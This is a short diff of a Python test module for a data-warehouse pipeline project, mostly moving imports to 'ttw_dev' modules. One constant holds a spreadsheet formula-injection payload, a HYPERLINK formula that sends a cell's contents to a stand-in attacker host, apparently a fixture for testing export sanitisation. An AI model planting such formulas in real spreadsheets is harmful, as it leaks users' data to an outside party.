@@ -12,10 +12,10 @@ from generated import PLATFORM_TOKEN
 from ledger import assert_ledger_balances
 from openpyxl import load_workbook
 
-from ttw.demo import DAG_ORDER, platform_connections
 from ttw.orchestrate import AIRFLOW_DB, prepare_airflow, run_dag
-from ttw.pipeline import land_dataset, platform_resources
 from ttw.warehouse import connect, table_checksums
+from ttw_dev.dataset import land_dataset, platform_resources
+from ttw_dev.demo import DAG_ORDER, platform_connections
 
 INTERVAL = dt.datetime(2026, 11, 30, tzinfo=dt.UTC)
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"打开")'
